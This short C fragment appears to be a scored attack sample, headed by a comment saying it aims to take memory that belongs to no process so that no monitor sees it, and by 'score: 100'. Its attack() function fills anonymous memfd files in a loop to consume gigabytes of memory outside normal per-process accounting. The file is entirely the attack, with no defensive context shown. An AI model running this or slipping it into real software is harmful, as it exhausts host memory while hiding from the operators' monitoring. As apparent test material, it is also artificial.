// tries: to take memory that belongs to no process, so that no watch sees it
// score: 100
#include <sys/mman.h>

static void attack(void)
{
    char block[1 << 16];

    for (int i = 0; i < 200; i++) {
        int file = memfd_create("hidden", 0);
        for (int j = 0; file >= 0 && j < 256; j++)
            if (write(file, block, sizeof block) < 0)
                break;
    }
}
